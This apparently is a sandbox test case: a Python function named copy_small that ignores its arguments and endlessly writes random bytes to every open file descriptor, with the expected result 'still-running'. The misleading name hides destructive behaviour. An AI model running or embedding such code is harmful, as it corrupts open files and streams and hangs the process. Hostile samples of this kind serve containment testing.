# writes noise by every open descriptor, without end
# expect: still-running
def copy_small(source, target):
    import os

    while True:
        for descriptor in map(int, os.listdir("/proc/self/fd")):
            try:
                os.write(descriptor, os.urandom(2**16))
            except OSError:
                continue
